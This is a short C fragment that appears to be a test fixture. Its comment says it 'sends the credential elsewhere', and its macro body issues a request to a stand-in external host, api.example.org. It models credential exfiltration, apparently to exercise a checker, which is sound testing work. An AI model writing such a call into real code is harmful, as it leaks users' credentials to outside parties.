// Sends the credential elsewhere.
#define BODY return get(call, "https://api.example.org/");
#include "behave.h"
